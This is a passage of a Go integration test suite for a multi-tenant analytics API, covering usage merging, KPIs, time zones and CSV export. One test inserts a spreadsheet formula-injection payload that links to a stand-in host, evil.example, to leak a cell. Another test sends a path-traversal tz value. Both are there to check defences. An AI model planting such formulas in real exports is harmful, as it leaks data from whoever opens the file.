		"/api/analytics/export.csv?event=a.b&event=c.d": "event",
		"/api/analytics/event-names?limit=1001":         "limit",
	} {
		if r := h.get(t, h.keys["a-read"], "", path); r.Status != 400 || !strings.Contains(r.Raw, want) {
			t.Errorf("%s: %d %s, want 400 naming %s", path, r.Status, r.Raw, want)
		}
	}
}

// Reconciled days come from Postgres, newer days from ClickHouse; the series is one continuous line.
// A reconciled day ClickHouse has counted more of since (late events not billed yet) shows the fresh
// count, saying so; every point says where its number came from.
func TestUsageMergesPostgresAndClickHouse(t *testing.T) {
	t.Parallel()
	h := newHarness(t, 100)
	today := h.now.Truncate(24 * time.Hour)
	day := func(n int) time.Time { return today.AddDate(0, 0, -n) }
	var rows []ev
	for d := 0; d <= 4; d++ {
		for i := 0; i <= d; i++ { // d+1 events on day -d
			rows = append(rows, ev{id: uuid.New(), tenant: h.a.ID, ts: day(d).Add(time.Hour), event: "auth.user.login"})
		}
	}
	h.insert(t, rows)
	ctx := context.Background()
	// Days -4 and -3 are reconciled; Postgres holds the billed numbers (here deliberately different
	// from ClickHouse's, to prove which source answered). Day -2 was never reconciled.
	for _, d := range []int{4, 3} {
		if _, err := h.env.PG.Exec(ctx, "INSERT INTO rollup_runs (date, status, finished_at) VALUES ($1, 'ok', now())", day(d)); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := h.env.PG.Exec(ctx, `INSERT INTO analytics_daily_usage (tenant_id, date, metric, count, meta) VALUES ($1, $2, 'auth.user.login', 50, '{"source":"rollup"}')`, h.a.ID, day(4)); err != nil {
		t.Fatal(err)
	}
	path := fmt.Sprintf("/api/analytics/usage?from=%s&to=%s&metric[]=auth.user.login", day(6).Format("2006-01-02"), day(0).Format("2006-01-02"))
	r := h.get(t, h.keys["a-read"], "", path)
	if r.Status != 200 {
		t.Fatalf("got %d %s", r.Status, r.Raw)
	}
	got := map[string]string{}
	for _, p := range r.Data()["auth.user.login"].([]any) {
		m := p.(map[string]any)
		meta, _ := json.Marshal(m["meta"])
		got[m["date"].(string)] = fmt.Sprintf("%v %s", m["count"], meta)
	}
	want := map[string]string{
		day(4).Format("2006-01-02"): `50 {"source":"billed"}`,
		day(3).Format("2006-01-02"): `4 {"billed":0,"source":"clickhouse"}`, // billed with no row; 4 arrived since
		day(2).Format("2006-01-02"): `3 {"source":"clickhouse"}`,
		day(1).Format("2006-01-02"): `2 {"source":"clickhouse"}`,
		day(0).Format("2006-01-02"): `1 {"source":"clickhouse"}`,
	}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("usage:\n got %v\nwant %v", got, want)
	}
	r = h.get(t, h.keys["a-read"], "", path+"&fill=zero")
	points := r.Data()["auth.user.login"].([]any)
	var dates []string
	for _, p := range points {
		dates = append(dates, p.(map[string]any)["date"].(string))
	}
	if len(points) != 7 || !sort.StringsAreSorted(dates) {
		t.Errorf("fill=zero: %d points %v, want 7 ascending days", len(points), dates)
	}
	if r := h.get(t, h.keys["a-read"], "", "/api/analytics/usage"); r.Status != 400 {
		t.Errorf("usage without metric: got %d, want 400", r.Status)
	}
}

func TestKPIWindows(t *testing.T) {
	t.Parallel()
	h := newHarness(t, 100)
	today := h.now.Truncate(24 * time.Hour)
	var rows []ev
	add := func(daysAgo, n int, event string) {
		for i := 0; i < n; i++ {
			rows = append(rows, ev{id: uuid.New(), tenant: h.a.ID, ts: today.AddDate(0, 0, -daysAgo).Add(time.Minute), event: event})
		}
	}
	add(0, 3, "auth.user.registered")
	add(6, 2, "auth.user.registered")  // last day of the week window
	add(7, 4, "auth.user.registered")  // outside the week
	add(29, 5, "auth.user.registered") // last day of the month window
	add(30, 100, "auth.user.registered")
	add(0, 1, "auth.user.login")
	h.insert(t, rows)
	r := h.get(t, h.keys["a-read"], "", "/api/analytics/metrics")
	if r.Status != 200 {
		t.Fatalf("got %d %s", r.Status, r.Raw)
	}
	got, _ := json.Marshal(r.Data())
	want := `{"apikey.request":{"month":0,"today":0,"week":0},"auth.user.login":{"month":1,"today":1,"week":1},` +
		`"auth.user.registered":{"month":14,"today":3,"week":5},"builder.generate.completed":{"month":0,"today":0,"week":0}}`
	if string(got) != want {
		t.Errorf("KPIs:\n got %s\nwant %s", got, want)
	}
	r = h.get(t, h.keys["a-read"], "", "/api/analytics/metrics?metric[]=auth.user.login")
	if len(r.Data()) != 1 {
		t.Errorf("metric[] filter: %s", r.Raw)
	}
}

func TestEventNames(t *testing.T) {
	t.Parallel()
	h := newHarness(t, 100)
	ts := h.now.Add(-time.Hour).Truncate(time.Second)
	h.insert(t, []ev{{id: uuid.New(), tenant: h.a.ID, ts: ts, event: "b.x"}, {id: uuid.New(), tenant: h.a.ID, ts: ts, event: "b.x"}, {id: uuid.New(), tenant: h.a.ID, ts: ts, event: "a.y"}})
	r := h.get(t, h.keys["a-read"], "", "/api/analytics/event-names")
	if got := r.Raw; !strings.Contains(got, `"data":[{"event":"b.x","count":2},{"event":"a.y","count":1}]`) || r.Header.Get("X-Event-Names-Truncated") != "false" {
		t.Errorf("event-names: %s %v", got, r.Header)
	}
	r = h.get(t, h.keys["a-read"], "", "/api/analytics/event-names?limit=1")
	if got := r.Raw; !strings.Contains(got, `"data":[{"event":"b.x","count":2}]`) || r.Header.Get("X-Event-Names-Truncated") != "true" {
		t.Errorf("event-names?limit=1: %s %v, want only b.x and the truncation header", got, r.Header)
	}
}

func TestActiveUsersCountsDistinctUsers(t *testing.T) {
	t.Parallel()
	h := newHarness(t, 100)
	ts := h.now.Add(-time.Hour).Truncate(time.Second)
	var rows []ev
	for i, u := range []string{"alice", "bob", "alice", "", "carol", "alice"} {
		rows = append(rows, ev{id: uuid.New(), tenant: h.a.ID, ts: ts.Add(time.Duration(i) * time.Second), event: "auth.user.login", user: u})
	}
	rows = append(rows, ev{id: uuid.New(), tenant: h.a.ID, ts: ts, event: "auth.user.registered", user: "dave"},
		ev{id: uuid.New(), tenant: h.b.ID, ts: ts, event: "auth.user.login", user: "eve"})
	h.insert(t, rows)
	r := h.get(t, h.keys["a-read"], "", "/api/analytics/active-users")
	if r.Status != 200 || r.Data()["users"] != 3.0 || r.Data()["events"] != 6.0 || r.Data()["event"] != "auth.user.login" {
		t.Errorf("active users: %d %s, want 3 distinct users of 6 logins", r.Status, r.Raw)
	}
	if r := h.get(t, h.keys["a-read"], "", "/api/analytics/active-users?event=auth.user.registered"); r.Data()["users"] != 1.0 {
		t.Errorf("active users of another event: %s", r.Raw)
	}
}

// TestReadsFollowTheTenantsTimeZone: the tenant's zone is the default of tz; tz overrides it; the
// response names the zone; a zone that is not one is a 400.
func TestReadsFollowTheTenantsTimeZone(t *testing.T) {
	t.Parallel()
	h := newHarness(t, 100)
	if _, _, err := tenant.NewStore(h.env.PG).SetTimeZone(context.Background(), "acme", "Asia/Kathmandu"); err != nil {
		t.Fatal(err)
	}
	ktm, _ := time.LoadLocation("Asia/Kathmandu")
	y, m, d := h.now.In(ktm).AddDate(0, 0, -3).Date()
	midnight := time.Date(y, m, d, 0, 0, 0, 0, ktm) // local midnight of day D, 18:15 UTC the day before
	day, prev := midnight.Format(time.DateOnly), midnight.AddDate(0, 0, -1).Format(time.DateOnly)
	h.insert(t, []ev{
		{id: uuid.New(), tenant: h.a.ID, ts: midnight.Add(-time.Second), event: "auth.user.login"},   // D-1 in Kathmandu and in UTC
		{id: uuid.New(), tenant: h.a.ID, ts: midnight, event: "auth.user.login"},                     // D in Kathmandu, D-1 in UTC
		{id: uuid.New(), tenant: h.a.ID, ts: midnight.Add(10 * time.Hour), event: "auth.user.login"}, // D in both
	})
	series := func(r fixture.Response) string {
		t.Helper()
		if r.Status != 200 {
			t.Fatalf("got %d %s", r.Status, r.Raw)
		}
		var out []string
		for _, p := range r.Data()["auth.user.login"].([]any) {
			p := p.(map[string]any)
			out = append(out, fmt.Sprintf("%s=%v", p["date"], p["count"]))
		}
		return strings.Join(out, " ")
	}
	path := fmt.Sprintf("/api/analytics/usage?from=%s&to=%s&metric[]=auth.user.login", prev, day)
	r := h.get(t, h.keys["a-read"], "", path)
	if got, want := series(r), fmt.Sprintf("%s=1 %s=2", prev, day); got != want {
		t.Errorf("usage in the tenant's zone: got %s, want %s", got, want)
	}
	if got := r.Header.Get("X-Analytics-Time-Zone"); got != "Asia/Kathmandu" {
		t.Errorf("X-Analytics-Time-Zone: got %q, want Asia/Kathmandu", got)
	}
	r = h.get(t, h.keys["a-read"], "", path+"&tz=UTC")
	if got, want := series(r), fmt.Sprintf("%s=2 %s=1", prev, day); got != want {
		t.Errorf("usage with tz=UTC: got %s, want %s", got, want)
	}
	r = h.get(t, h.keys["a-read"], "", fmt.Sprintf("/api/analytics/events?from=%s&to=%s", day, day))
	if n := len(r.Data()["events"].([]any)); r.Status != 200 || n != 2 {
		t.Errorf("events of local day %s: got %d %d events, want 2", day, r.Status, n)
	}
	// Tenant B has no zone set: UTC.
	r = h.get(t, h.keys["b-read"], "", "/api/analytics/metrics")
	if got := r.Header.Get("X-Analytics-Time-Zone"); r.Status != 200 || got != "UTC" {
		t.Errorf("tenant without a zone: got %d %q, want 200 UTC", r.Status, got)
	}
	for _, bad := range []string{"Mars%2FOlympus", "Local", "%2E%2E%2Fetc"} {
		r = h.get(t, h.keys["a-read"], "", "/api/analytics/metrics?tz="+bad)
		if r.Status != 400 || !strings.Contains(string(r.Raw), "tz=") {
			t.Errorf("tz=%s: got %d %s, want 400 naming tz", bad, r.Status, r.Raw)
		}
	}
}

// Rows the importer wrote keep the guide's event and source as they were (its event is TEXT): a
// formula or a comma and a newline in them must not reach a spreadsheet or split the row. Found by
// review: both cells were written raw, trusting ingest's name rule, and the CSV did not parse.
func TestExportCSVNeutralisesImportedNames(t *testing.T) {
	t.Parallel()
	h := newHarness(t, 100)
	ts := h.now.Add(-time.Hour).Truncate(time.Second)
	h.insert(t, []ev{{id: uuid.New(), tenant: h.a.ID, ts: ts, event: `=HYPERLINK("http://evil.example/?x="&A1,"click")`, source: "=1+1,extra\nnext"}})
	r := h.get(t, h.keys["a-read"], "", "/api/analytics/export.csv")
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.Raw, "\ufeff"))).ReadAll()
	if err != nil || len(recs) != 2 || len(recs[1]) != 8 {
		t.Fatalf("CSV is not a header and one row of 8 cells: %v, %q\n%s", err, recs, r.Raw)
	}
	if ev, src := recs[1][2], recs[1][3]; !strings.HasPrefix(ev, "'=HYPERLINK") || !strings.HasPrefix(src, "'=1+1,extra") {
		t.Errorf("event %q, source %q: want each neutralised with a leading '", ev, src)
	}
}

// An export filtered by user_id is audited with the user's hash, never the id: the audit log
// outlives the user's erasure. Found by review: the filter was kept in plain text.
func TestExportAuditNamesTheUserByHash(t *testing.T) {
	t.Parallel()
	h := newHarness(t, 100)
	r := h.get(t, h.keys["a-read"], "", "/api/analytics/export.csv?user_id=alice%40example.com")
	if r.Status != 200 {
		t.Fatalf("export: %d %s", r.Status, r.Raw)
	}
	var meta string
	if err := h.env.PG.QueryRow(context.Background(), "SELECT meta::text FROM audit_log WHERE tenant_id = $1 AND action = 'export.csv'", h.a.ID).Scan(&meta); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(meta, "alice") || !strings.Contains(meta, audit.UserHash(h.a.ID, "alice@example.com")) {
		t.Errorf("the export's audit entry %s: want the user's hash and not the id", meta)
	}
}

// Stored times are whole seconds, so a fractional bound rounds up on both ends: from=S.5 excludes an
// event at S (it is before from), to=S.5 includes it (it is before to). Both bounds were truncated,
// so from included it and to left it out (found by review).
func TestFractionalBoundsAreNotTruncated(t *testing.T) {
	t.Parallel()
	h := newHarness(t, 100)
	at := h.now.Add(-time.Hour).Truncate(time.Second)
	h.insert(t, []ev{{id: uuid.New(), tenant: h.a.ID, ts: at, event: "auth.user.login"}})
	half := url.QueryEscape(at.Add(500 * time.Millisecond).Format(time.RFC3339Nano))
	count := func(path string) int {
		t.Helper()
		r := h.get(t, h.keys["a-read"], "", path)
		if r.Status != 200 {
			t.Fatalf("%s: %d %s", path, r.Status, r.Raw)
		}
		return len(r.Data()["events"].([]any))
	}
	if n := count("/api/analytics/events?from=" + half); n != 0 {
		t.Errorf("from half a second after the only event: %d events, want 0", n)
	}
	if n := count("/api/analytics/events?to=" + half); n != 1 {
		t.Errorf("to half a second after the only event: %d events, want 1", n)
	}
}

// Names and sources an import kept as they were in the source system are filters like any other:
// the event list shows them, and filtering on them finds them. Before, the filters held them to
// ingest's rules and answered 400 (found by review).
func TestImportedNamesCanBeFilteredOn(t *testing.T) {
	t.Parallel()
	h := newHarness(t, 100)
	at := h.now.Add(-time.Hour).Truncate(time.Second)
	h.insert(t, []ev{
		{id: uuid.New(), tenant: h.a.ID, ts: at, event: "Checkout.Order Completed", source: "mobile", user: "u1"},
		{id: uuid.New(), tenant: h.a.ID, ts: at, event: "auth.user.login", source: "app", user: "u2"},
	})
	for _, tc := range []struct {
		path string
		want string
	}{
		{"/api/analytics/events?event=" + url.QueryEscape("Checkout.Order Completed"), `"user_id":"u1"`},
		{"/api/analytics/events?source=mobile", `"user_id":"u1"`},
		{"/api/analytics/export.ndjson?source=mobile", `"user_id":"u1"`},
		{"/api/analytics/active-users?event=" + url.QueryEscape("Checkout.Order Completed"), `"users":1`},
		{"/api/analytics/metrics?metric=" + url.QueryEscape("Checkout.Order Completed"), `"week":1`},
	} {
		r := h.get(t, h.keys["a-read"], "", tc.path)
		if r.Status != 200 || !strings.Contains(r.Raw, tc.want) || strings.Contains(r.Raw, `"u2"`) {
			t.Errorf("%s: %d %s, want 200 with %s and not the other event", tc.path, r.Status, r.Raw, tc.want)
		}
	}
}

// An export's file is named by the local days it covers. For a range of Tokyo days it named the UTC
// date before each (found by review).
func TestExportFileNameNamesTheLocalDays(t *testing.T) {
	t.Parallel()
	h := newHarness(t, 100)
	r := h.get(t, h.keys["a-read"], "", "/api/analytics/export.csv?from=2026-03-01&to=2026-03-07&tz=Asia/Tokyo")
	if want := `attachment; filename="analytics-acme-20260301-20260307.csv"`; r.Status != 200 || r.Header.Get("Content-Disposition") != want {
		t.Errorf("export of Tokyo's 1–7 March: %d Content-Disposition %q, want %q", r.Status, r.Header.Get("Content-Disposition"), want)
	}
}

// Each metric[] value is one name as it is: an imported event named with a comma was split and
// answered as two other names, silently (the dashboard's chart sends each name from /event-names as
// one metric[]; found by review). metric= still splits on commas.
func TestImportedNameWithACommaCanBeAskedFor(t *testing.T) {
	t.Parallel()
	h := newHarness(t, 100)
	at := h.now.Add(-time.Hour).Truncate(time.Second)
	name := "Checkout.Order Completed, v2"
	h.insert(t, []ev{{id: uuid.New(), tenant: h.a.ID, ts: at, event: name, source: "mobile", user: "u1"}})
	r := h.get(t, h.keys["a-read"], "", "/api/analytics/metrics?metric[]="+url.QueryEscape(name))
	if r.Status != 200 || !strings.Contains(r.Raw, `"Checkout.Order Completed, v2":{`) || !strings.Contains(r.Raw, `"week":1`) {
		t.Errorf("/metrics?metric[]=%q: %d %s, want that name's KPI with week 1", name, r.Status, r.Raw)
	}
}
